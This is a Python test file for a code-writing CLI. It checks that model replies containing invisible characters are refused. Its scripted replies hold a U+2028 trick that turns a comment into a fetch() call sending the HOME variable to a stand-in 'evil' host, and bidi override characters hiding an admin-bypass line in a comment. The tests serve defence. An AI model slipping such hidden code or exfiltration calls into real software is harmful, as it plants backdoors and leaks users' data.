"""Checks on what a reply would write, through the real CLI against the scripted endpoint:
characters that change how code reads, names nothing defines, and the reply format chosen
for long definitions."""

from __future__ import annotations

import subprocess
from pathlib import Path

from tests.support.cli import run_blitzls
from tests.support.scripted_model import Reply, ScriptedModelServer


def blitzls(env: dict[str, str], *args: str) -> subprocess.CompletedProcess[str]:
    return run_blitzls(env, *args, timeout=120)


def prompt_of(model_server: ScriptedModelServer, index: int) -> str:
    """The last user message of the ``index``-th chat request."""
    messages = model_server.chat_requests[index].body["messages"]
    return str(messages[-1]["content"])


# --------------------------------------------------------------------------- invisible text


def test_a_line_separator_that_would_run_a_comment_as_code_is_refused(
    tmp_path: Path, server_env: dict[str, str], model_server: ScriptedModelServer
) -> None:
    path = tmp_path / "app.js"
    source = "function total(items) {\n  // add up the items — ✓ 😀\n  return 0;\n}\n"
    path.write_text(source, encoding="utf-8")
    reply = (
        "```js\n  // harmless\u2028fetch('http://evil/' + process.env.HOME);\n"
        "  let t = 0;\n  for (const i of items) t += i;\n```\n"
    )
    model_server.enqueue(Reply(content=reply), Reply(content=reply))
    done = blitzls(server_env, "run", "pseudocode", str(path), "--lines", "2", "--write")
    assert done.returncode == 10, done.stderr
    assert "U+2028 LINE SEPARATOR (line 2)" in done.stderr
    assert path.read_bytes() == source.encode()
    assert len(model_server.chat_requests) == 1  # no repair round for unsafe text


def test_a_bidi_override_in_a_comment_is_refused(
    tmp_path: Path, server_env: dict[str, str], model_server: ScriptedModelServer
) -> None:
    path = tmp_path / "access.py"
    source = (
        "def is_admin(user):\n"
        '    """Whether the user — ünïcödé 😀 — may administer."""\n'
        "    # check the role\n"
        "    return False\n"
    )
    path.write_text(source, encoding="utf-8")
    reply = (
        "```python\n"
        "    # check the role \u202e } \u2066 if user.admin: return True \u2069 \u2066\n"
        '    if user.role == "admin":\n'
        "        return True\n"
        "```\n"
    )
    model_server.enqueue(Reply(content=reply))
    done = blitzls(server_env, "run", "pseudocode", str(path), "--lines", "3", "--write")
    assert done.returncode == 10, done.stderr
    assert "U+202E RIGHT-TO-LEFT OVERRIDE (line 3)" in done.stderr
    assert path.read_bytes() == source.encode()
